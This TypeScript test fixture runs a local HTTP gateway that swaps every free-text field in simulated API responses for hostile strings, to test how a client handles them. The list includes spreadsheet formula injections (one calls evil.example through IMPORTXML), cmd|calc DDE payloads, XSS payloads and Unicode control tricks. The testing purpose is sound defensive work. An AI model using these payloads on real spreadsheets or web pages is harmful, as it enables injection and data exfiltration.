import { Buffer } from 'node:buffer';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Simulator } from '../../simulator/simulator';

/** Texts that a spreadsheet would run, a page would show, or a reader would stumble over. */
export const hostileTexts: readonly string[] = [
  '=IMPORTXML("https://evil.example/x","//a")',
  '+1+cmd|calc',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(2)</script>',
  '\t=1+1',
  '\r\n=2+2',
  '\u0000\u0007\u001b[31m=3+3',
  '\u202e=txet\u202c',
  'نورا الخالد',
  "'=4+4",
  '"><svg onload=alert(3)>',
  '<!-- <?= 5+5 ?> {{7+7}}',
];

/** Fields whose words mean something to software, and moments and addresses. */
const structural =
  /^(direction|status|.*availability.*|.*status|time_zone|language|country|extension|state|substatus|type|event|resource|timestamp|.*_at|.*_link|.*_date|direct_link|archived|missed_call_reason|digits|email)$/;

/** The account as it is, behind a gateway that replaces every free text by a hostile one. */
export interface HostileAccount {
  readonly url: string;
  /** Whom to ask; set it before the first request. */
  simulator: Simulator | undefined;
  close(): Promise<void>;
}

/** Opens the gateway. */
export async function openHostileAccount(): Promise<HostileAccount> {
  const account: { simulator: Simulator | undefined } = { simulator: undefined };
  const server = createServer(async (request, reply) => {
    const outcome = account.simulator?.handle({
      method: request.method ?? 'GET',
      path: request.url ?? '/',
      headers: request.headers as Record<string, string>,
      body: await readBody(request),
    });
    if (outcome === undefined || outcome.kind === 'closed') {
      request.destroy();
      return;
    }
    const { status, headers, body } = outcome.response;
    reply.writeHead(status, { ...headers });
    reply.end(status === 200 ? spoil(String(body)) : body);
  });
  await new Promise<void>((done) => {
    server.listen(0, '127.0.0.1', done);
  });
  return Object.assign(account, {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise<void>((done) => void server.close(() => done())),
  });
}

async function readBody(request: IncomingMessage): Promise<string> {
  const parts: Buffer[] = [];
  for await (const part of request) parts.push(part as Buffer);
  return Buffer.concat(parts).toString();
}

/** The JSON with another hostile text in each place of a free text, so that all of them get everywhere. */
function spoil(body: string): string {
  if (!body.startsWith('{')) return body;
  let count = 0;
  return JSON.stringify(JSON.parse(body), (key, value: unknown) => {
    if (typeof value !== 'string' || structural.test(key) || /^https?:/.test(value)) return value;
    count += 1;
    return hostileTexts[count % hostileTexts.length];
  });
}
